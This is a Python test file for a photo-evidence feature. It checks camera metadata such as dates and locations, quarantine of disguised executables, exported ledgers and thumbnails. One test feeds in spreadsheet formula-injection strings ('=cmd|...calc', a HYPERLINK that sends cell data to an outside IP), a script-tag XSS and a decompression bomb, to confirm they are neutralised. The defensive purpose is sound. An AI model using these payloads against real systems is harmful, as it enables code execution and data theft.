"""What cameras write into photos: read with patience, weighed against time and place, passed on never (B16-B22)."""

import io
import zipfile
from typing import Any

import pytest
from PIL import Image
from sqlalchemy import select

from handlers.pictures.photos import thumbnail
from models.evidence import Photo
from models.people import Person
from tests.bad_input import nasty
from tests.bad_input.office import GYMNASIUM, Office

pytestmark = pytest.mark.asyncio(loop_scope="module")

HERE = (23.70, 112.98)
FAR = (26.40, 112.98)  # three hundred kilometres to the north

# Notes, the remark they get, and whether a time and a place are kept.
NOTES: dict[str, tuple[Any, str, bool, bool]] = {
    "B16-no-date": (nasty.notes("not a date"), "time_unreadable", False, False),
    "B16-month-13": (nasty.notes("2018:13:45 99:99:99"), "time_unreadable", False, False),
    "B17-2099": (nasty.notes("2099:01:01 00:00:00"), "time_impossible", True, False),
    "B17-1970": (nasty.notes("1970:01:01 00:00:00"), "time_impossible", True, False),
    "B17-year-one": (nasty.notes("0001:01:01 00:00:00"), "time_impossible", False, False),
    "B92-three-hours-wrong": (nasty.notes("2018:08:06 05:20:00"), "time_differs", True, False),
    "B18-latitude-999": (nasty.notes(place=((999.0, 0.0, 0.0), 112.0)), "place_impossible", False, False),
    "B18-one-number": (nasty.notes(place=((23.0,), (112.0,))), "place_impossible", False, False),
    "B19-300-km": (nasty.notes(place=FAR), "place_far", False, True),
    "neutral-none": (nasty.notes(), "", False, False),
    "neutral-zeros": (nasty.notes("0000:00:00 00:00:00"), "", False, False),
    "right-time": (nasty.notes("2018:08:06 08:25:00"), "", True, False),
}


@pytest.mark.parametrize("language", ["en"])
async def test_notes_put_a_photo_in_doubt_and_it_counts_all_the_same(office: Office, language: str) -> None:
    worker = await office.hire(language)
    await worker.goes_to()
    for name, (notes, *_) in NOTES.items():
        file = office.upload(nasty.jpeg(len(name), 90, notes), f"{name}.jpg", "image/jpeg")
        await office.town.act({"do": "send_file", "as": worker.id, "file": file})
    await office.town.settle()
    photos = {photo.file_name.removesuffix(".jpg"): photo for photo in worker.photos()}
    for name, (_, remark, has_time, has_place) in NOTES.items():
        photo = photos[name]
        assert (photo.remarks, photo.claimed_at is not None) == (remark, has_time), name
        assert (photo.claimed_latitude is not None) == has_place, name
    assert any(f"📷 {len(NOTES)}/2" in text for text in await worker.texts())
    await worker.taps("✅")
    (receipt,) = [text for text in await worker.texts() if text.startswith("✅")]
    said = [worker.words(f"remark.{remark}") for _, remark, *_ in NOTES.values() if remark]
    assert all(remark in receipt for remark in said)


async def test_b19_a_photo_before_its_location_is_weighed_when_the_check_is_handed_in(office: Office) -> None:
    worker = await office.hire()
    await worker.sends_file(nasty.jpeg(77, 90, nasty.notes(place=FAR)))
    await worker.sends_file(nasty.jpeg(78, 90, nasty.notes(place=office.places[GYMNASIUM])))
    assert [photo.remarks for photo in worker.photos()] == ["", ""]
    await worker.goes_to()
    await worker.taps("✅")
    assert [photo.remarks for photo in worker.photos()] == ["place_far", ""]


async def test_b22_text_in_notes_and_names_reaches_no_ledger_and_captions_stay_text(office: Office) -> None:
    """`=cmd` and HTML, in a camera's notes, in the name of the file, in the caption of the photo."""
    worker = await office.hire()
    notes = nasty.notes("2018:08:06 08:25:00", ImageDescription="=cmd|'/c calc'!A1", Artist="<script>alert(1)</script>")
    await worker.goes_to()
    content = nasty.jpeg(88, 90, notes)
    await worker.sends_file(content, "=cmd.jpg", caption='3 =HYPERLINK("http://198.51.100.7/?"&A1,"<b>看</b>")')
    await worker.sends_file(nasty.jpeg(89, 90))
    await worker.sends_file(nasty.bomb(), "bomb.jpg")
    await worker.taps("✅")
    (photo, *_) = worker.photos()
    assert office.kept(photo) == content
    parts = await _ledger(office)
    written = b"".join(content for name, content in parts.items() if name.endswith(".xml"))
    assert b"=HYPERLINK(" in written
    assert b"<f>" not in written
    assert b"<b>\xe7\x9c\x8b" not in written
    everything = b"".join(parts.values())
    assert all(word not in everything for word in (b"/c calc", b"alert(1)", b"bomb.jpg"))


async def _ledger(office: Office) -> dict[str, bytes]:
    """The administrator asks for it; its parts, unpacked."""
    await office.town.act({"do": "send_text", "as": 1001, "text": "导出 厕所 8月"})
    await office.town.settle()
    chat = next(chat for chat in (await office.town.state())["chats"] if chat["id"] == 1001)
    sent = [message["document"] for message in chat["messages"] if message["kind"] == "document"]
    world = office.town.running.world
    file = world.files.find(sent[-1]["file_id"])
    assert file is not None
    with zipfile.ZipFile(io.BytesIO(world.files.content(file))) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


async def test_t06_what_is_quarantined_is_in_no_ledger(office: Office) -> None:
    worker = await office.hire()
    await worker.goes_to()
    for seed in (91, 92):
        await worker.sends_file(nasty.jpeg(seed, 90), f"{seed}.jpg")
    await worker.sends_file(b"MZ" + bytes(200), "x.jpg")
    await worker.taps("✅")
    pictures = [content for name, content in (await _ledger(office)).items() if "media" in name]
    assert pictures
    assert all(content.startswith(b"\xff\xd8") for content in pictures)
    with office.town.app.database.reading() as session:
        kept = session.scalars(select(Photo).join(Person).where(Person.id == worker.person)).all()
    assert [photo.verdict for photo in kept] == ["sound", "sound", "quarantined"]


def _shown(content: bytes) -> Image.Image:
    return Image.open(io.BytesIO(thumbnail(content, (60, 60)))).convert("RGB")


def _near(picture: Image.Image, colour: tuple[int, int, int]) -> bool:
    middle = picture.getpixel((picture.width // 2, picture.height // 2))
    assert isinstance(middle, tuple)
    return all(abs(a - b) < 12 for a, b in zip(middle, colour, strict=True))


async def test_b21_thumbnails_are_upright_and_in_their_colours() -> None:
    upright = Image.Exif()
    upright[0x0112] = 6
    lying = _shown(nasty.picture("RGB", (200, 0, 0), "JPEG", exif=upright))
    assert (lying.width < lying.height, _near(lying, (200, 0, 0))) == (True, True)
    assert _near(_shown(nasty.picture("CMYK", (0, 255, 255, 0), "JPEG")), (254, 0, 0))
    assert _near(_shown(nasty.picture("I;16", 40_000, "PNG")), (156, 156, 156))
    assert _near(_shown(nasty.picture("1", 1, "PNG")), (255, 255, 255))
    assert _near(_shown(nasty.picture("P", 0, "PNG")), (0, 0, 0))
